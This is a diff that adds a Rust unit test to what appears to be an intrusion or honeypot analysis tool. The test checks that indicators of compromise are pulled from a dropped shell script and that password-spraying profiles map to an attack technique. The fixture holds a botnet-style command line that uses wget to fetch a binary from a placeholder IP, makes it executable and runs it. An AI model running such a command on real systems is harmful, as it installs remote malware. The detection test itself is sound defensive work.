@@ -195,3 +195,24 @@ fn failed_logins_are_credential_access_once() {
     assert!(a.observe(&fail()).is_empty());
     assert_eq!(a.summary(0).login_attempts, 2);
 }
+
+#[test]
+fn dropped_scripts_give_their_urls_and_profiles_give_credential_techniques() {
+    let mut a = analysis();
+    let script = b"#!/bin/sh\ncd /tmp || cd /var/run\nwget http://198.51.100.20/x86 -O .d; chmod 777 .d; ./.d ssh\n";
+    let out = a.artifact(script);
+    let values: Vec<String> = out
+        .iter()
+        .filter_map(|k| match k {
+            EventKind::Ioc(i) => Some(i.value.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(values, ["http://198.51.100.20/x86", "198.51.100.20"]);
+    assert!(
+        a.artifact(b"\x7fELF\0\0http://198.51.100.21/").is_empty(),
+        "binary skipped"
+    );
+    let out = a.profile_signals(&["password_spraying".into(), "root_targeting".into()]);
+    assert_eq!(techniques(&out), ["T1110.003"]);
+}
